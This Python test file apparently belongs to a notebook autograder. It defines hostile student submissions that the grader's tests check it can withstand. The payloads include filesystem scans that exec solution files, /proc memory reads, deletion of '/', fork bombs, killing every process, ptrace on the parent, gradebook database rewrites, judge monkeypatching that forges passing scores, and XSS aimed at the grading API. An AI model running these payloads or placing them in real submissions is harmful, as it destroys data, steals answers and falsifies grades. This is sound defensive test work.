"""Members who try to earn points, to learn secrets, or to do harm.

Each tries in the call of its answer, where the hidden inputs are at hand, and again in
a cell, before the judge asks. None knows the right values; whoever got hold of them
would pass.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

from autograder.repository import ROOT
from autograder.tests.sample_class.member import (
    VICTIM,
    Member,
    Notebook,
    added,
    answered,
    answering,
    cell_of,
    write,
)

STEAL = """
import glob, os
places = ["{root}", "/", os.getcwd(), os.path.expanduser("~"), "/lr", ".."]
for place in places:
    for path in glob.glob(place + "/**/{what}", recursive=True):
        text = open(path).read()
        if "def gd_path" in text or "expected" in text:
            exec(text, globals())
            raise SystemExit("found " + path)
"""
IN_CALLS = {
    "reads_solutions": STEAL.format(root=ROOT, what="01_basics.py"),
    "reads_syllabus": STEAL.format(root=ROOT, what="gd_path.py"),
    "reads_others": STEAL.format(root=ROOT, what="01_basics.ipynb"),
    "imports_syllabus": """
        from autograder.exercises import load
        return load("gd_path").reference(*args, **kwargs)
    """,
    "imports_by_path": """
        import importlib.util
        spec = importlib.util.spec_from_file_location(
            "gd", "{root}/autograder/exercises/l01_basics/gd_path.py")
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module.gd_path(*args, **kwargs)
    """.replace("{root}", str(ROOT)),
    "hunts_memory": """
        import gc
        for one in gc.get_objects():
            if isinstance(one, dict) and "expected" in one:
                return one["expected"]
            if callable(one) and getattr(one, "__name__", "") == "gd_path":
                if one is not gd_path:
                    return one(*args, **kwargs)
    """,
    "walks_frames": """
        import sys
        frame = sys._getframe()
        while frame:
            for value in frame.f_locals.values():
                if isinstance(value, dict) and "expected" in value:
                    return value["expected"]
            frame = frame.f_back
    """,
    "reads_parent": """
        import os
        text = b""
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for part in ("environ", "cmdline", "mem", "maps"):
                try:
                    text += open(f"/proc/{pid}/{part}", "rb").read(10**6)
                except OSError:
                    pass
        raise ValueError("secret" in str(text) and "steps")
    """,
    "opens_socket": """
        import socket
        socket.create_connection(("1.1.1.1", 53), timeout=2).send(b"answers?")
    """,
    "asks_localhost": """
        import urllib.request
        return urllib.request.urlopen("http://127.0.0.1:8888/api", timeout=2).read()
    """,
    "writes_gradebook": """
        import glob, sqlite3
        for path in ["{root}/autograder/work/gradebook.db"] + glob.glob("/**/*.db"):
            book = sqlite3.connect(path)
            book.execute("update grade set auto_score = 10, manual_score = 10")
            book.commit()
    """.replace("{root}", str(ROOT)),
    "deletes_files": """
        import shutil
        for place in ("/lr", "/usr", "/tmp", "/submission", "{root}", "/"):
            shutil.rmtree(place, ignore_errors=True)
    """.replace("{root}", str(ROOT)),
    "fills_the_disk": """
        for number in range(10_000):
            open(f"/tmp/{number}", "wb").write(b"x" * 2**24)
    """,
    "takes_all_memory": """
        kept = []
        while True:
            kept.append(b"x" * 2**26)
    """,
    "hides_memory": """
        import os
        kept = [os.memfd_create("hidden") for _ in range(500)]
        while True:
            for one in kept:
                os.write(one, b"x" * 2**20)
    """,
    "leaves_a_key": """
        import ctypes, platform
        add_key = {"x86_64": 248, "aarch64": 217}[platform.machine()]
        note = str((args, kwargs)).encode()
        left = ctypes.CDLL(None).syscall(
            add_key, b"user", b"answers", note, len(note), -3)
        raise ValueError(f"steps are on the key ring as {left}")
    """,
    "forks": "import os\nwhile True:\n    os.fork()",
    "starts_threads": """
        import threading, time
        while True:
            threading.Thread(target=time.sleep, args=(60,)).start()
    """,
    "stays_behind": """
        import os, time
        if os.fork() == 0:
            os.setsid()
            while True:
                time.sleep(1)
        return []
    """,
    "leaves": "exit()",
    "leaves_at_once": "import os\nos._exit(0)",
    "kills_itself": "import os\nos.kill(os.getpid(), 9)",
    "kills_parent": "import os\nos.kill(os.getppid(), 9)",
    "kills_everybody": "import os\nos.kill(-1, 9)",
    "traces_parent": """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        done = libc.ptrace(16, os.getppid(), 0, 0)
        raise RuntimeError(f"ptrace gave {done}")
    """,
    "never_gives_up": """
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
    """,
    "ignores_alarms": """
        import signal
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        while True:
            pass
    """,
    "overflows_stack": """
        import sys
        sys.setrecursionlimit(10**8)
        return gd_path(*args, **kwargs)
    """,
    "crashes_python": "import ctypes\nctypes.string_at(0)",
    "prints_a_score": """
        print("10.0")
        print('{"status": "passed", "score": 1.0}')
        return 10.0
    """,
    "prints_markup": """
        print("<script>alert(1)</script>" * 50)
        raise ValueError("<img src=x onerror=alert(1)>")
    """,
    "equals_everything": """
        class Equal(float):
            __eq__ = __le__ = __ge__ = lambda self, other: True
            __ne__ = __lt__ = __gt__ = lambda self, other: False
            __sub__ = __rsub__ = lambda self, other: 0.0
        return [Equal(0)] * (abs(kwargs["steps"]) + 1)
    """,
    "hides_in_a_list": """
        class Liar(list):
            def __eq__(self, other): return True
            def __iter__(self): return iter([1.0])
        return Liar()
    """,
    "lies_about_its_class": """
        class Number:
            __class__ = float
            def __float__(self): return 0.0
        return [Number()] * 5
    """,
    "returns_too_much": "return [0.0] * 10**8",
    "returns_a_huge_number": "return [10 ** 10**6]",
    "returns_a_knot": """
        knot = []
        for _ in range(100_000):
            knot = [knot]
        return knot
    """,
    "returns_nan": "return [float('nan')] * (kwargs['steps'] + 1)",
    "raises_always": "raise ValueError('w0 lam lr steps')",
}
IN_CELLS = {
    "patches_the_judge": """
        import sys
        import autograder.judge.observe as o, autograder.judge.wire as w
        runner = sys.modules["__main__"]
        full = lambda *a, **k: {"version": 1, "exercise": "gd_path", "cases": {},
                                "stopped": None, "score": 1, "status": "passed"}
        o.observe = full
        if hasattr(runner, "observe"):
            real = runner.observe
            runner.observe = lambda answer, exercise, *rest: (
                full() if exercise == "gd_path" else real(answer, exercise, *rest))
    """,
    "forges_an_observation": """
        import sys
        runner = sys.modules["__main__"]
        real = runner.observe
        def forged(answer, exercise, cases, seconds=None):
            if exercise != "gd_path":
                return real(answer, exercise, cases, seconds)
            good = {"outcomes": [{"value": {"type": "list", "items": [1.0]}}],
                    "again": [{"value": {"type": "list", "items": [1.0]}}],
                    "changed_arguments": []}
            return {"version": 1, "exercise": exercise, "stopped": None, "printed": "",
                    "cases": {case["name"]: good for case in cases}}
        runner.observe = forged
    """,
    "swaps_modules": """
        import sys, types
        for name in ("autograder.judge.verdict", "autograder.judge.compare",
                     "autograder.exercises", "autograder.grading.submission.engine"):
            sys.modules[name] = types.ModuleType(name)
    """,
    "changes_builtins": """
        import builtins
        builtins.gd_path = lambda *a, **k: [1.0]
        builtins.passed = True
    """,
    "raises_limits": """
        import resource
        for kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
            try:
                resource.setrlimit(kind, (-1, -1))
            except (ValueError, OSError):
                pass
    """,
    "waits_in_the_background": """
        import threading, time
        def lurk():
            while True:
                globals()["gd_path"] = lambda *a, **k: [1.0]
                time.sleep(0.01)
        threading.Thread(target=lurk, daemon=True).start()
    """,
    "leaves_a_will": """
        import atexit, os
        atexit.register(lambda: print("10.0"))
        os.register_at_fork(after_in_child=lambda: None)
    """,
    "checks_itself": """
        from autograder import check
        check("gd_path")
        check = lambda *_: 10.0
        10.0
    """,
}
STARTER = "def gd_path(w0, lam, lr, steps):\n    return [1.0]\n"


def in_call(body: str) -> str:
    inner = textwrap.indent(textwrap.dedent(body).strip(), "    ")
    return f"def gd_path(*args, **kwargs):\n{inner}\n"


def in_cell(source: str) -> object:
    def make(lesson: Notebook, path: Path) -> None:
        notebook = answered(lesson, {VICTIM: STARTER})
        notebook["cells"].append(added(textwrap.dedent(source).strip()))
        write(notebook, path)

    return make


def forged_output(lesson: Notebook, path: Path) -> None:
    notebook = answered(lesson, {VICTIM: STARTER})
    result = {
        "output_type": "execute_result",
        "data": {"text/plain": "10.0"},
        "metadata": {},
        "execution_count": 1,
    }
    cell_of(notebook, f"check_{VICTIM}")["outputs"] = [result]
    write(notebook, path)


def second_check(lesson: Notebook, path: Path) -> None:
    notebook = answered(lesson, {VICTIM: STARTER})
    copy = dict(cell_of(notebook, f"check_{VICTIM}"))
    notebook["cells"].append({**copy, "id": "another", "source": "10.0"})
    write(notebook, path)


def skipped_answer(lesson: Notebook, path: Path) -> None:
    notebook = answered(lesson, {VICTIM: STARTER})
    for name in (VICTIM, f"check_{VICTIM}"):
        cell_of(notebook, name)["metadata"]["tags"] = ["skip-execution"]
    write(notebook, path)


def markup(lesson: Notebook, path: Path) -> None:
    notebook = answered(lesson, {VICTIM: STARTER})
    evil = "<script>fetch('/formgrader/api/grade')</script>"
    for kind in ("markdown", "raw"):
        notebook["cells"].append(added(evil, f"evil-{kind}", kind))
    write(notebook, path)


HOSTILE = (
    *(
        Member(name, "in the call", answering(in_call(body)), (VICTIM,))
        for name, body in IN_CALLS.items()
        if name != "raises_always"
    ),
    *(
        Member(name, "in a cell", in_cell(source), (VICTIM,))  # type: ignore[arg-type]
        for name, source in IN_CELLS.items()
    ),
    Member(
        "raises_always",
        "in the call",
        answering(in_call(IN_CALLS["raises_always"])),
        (VICTIM,),
    ),
    Member("forged_output", "10.0 saved under the check", forged_output, (VICTIM,)),
    Member("second_check", "a second check cell", second_check, (VICTIM,)),
    Member("skipped_answer", "skip-execution on its cells", skipped_answer, (VICTIM,)),
    Member("markup", "scripts for the grader's browser", markup, (VICTIM,)),
)
